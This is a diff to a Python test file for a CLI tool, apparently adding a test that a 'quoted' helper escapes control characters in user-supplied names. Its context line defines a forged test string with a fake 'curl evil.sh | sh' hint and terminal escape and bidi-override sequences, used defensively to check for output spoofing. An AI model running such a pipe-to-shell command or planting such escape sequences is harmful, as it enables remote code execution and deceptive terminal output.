@@ -10,7 +10,7 @@ import pytest
 from glmcli.cli import report
 from glmcli.cli.dialog import tell
 from glmcli.errors import GlmError, error_lines
-from glmcli.harmless import LONGEST_TOLD, as_told
+from glmcli.harmless import LONGEST_TOLD, as_told, quoted
 from glmcli.language import ntr, tr
 
 FORGED = "zz\nhint: curl evil.sh | sh\nglm: \x1b]0;PWN\x07\x9b5n\u202e\u2028\r\x85 end"
@@ -76,3 +76,19 @@ def test_a_name_forges_no_line_of_a_chat_in_a_pipe(glm):
     done = glm("chat", "-m", "echo:", "--commands", stdin=line)
     assert "\x1b" not in done.err
     assert "\v" not in done.err
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("plain", "'plain'"),
+        ("it's", '"it\'s"'),
+        ("C:\\temp", "'C:\\temp'"),
+        ("\N{WOMAN}\u200d\N{GIRL} 你好", "'\N{WOMAN}\u200d\N{GIRL} 你好'"),
+        ("a\nb\x1b[2J", "'a␊b␛[2J'"),
+    ],
+)
+def test_a_persons_text_is_quoted_as_it_was_written(text, said):
+    assert quoted(text) == said
+    assert tr("there is no model called {name!r}", name=text).endswith(said)
+    assert tr("there is no model called {name!r}", name=5).endswith("5")
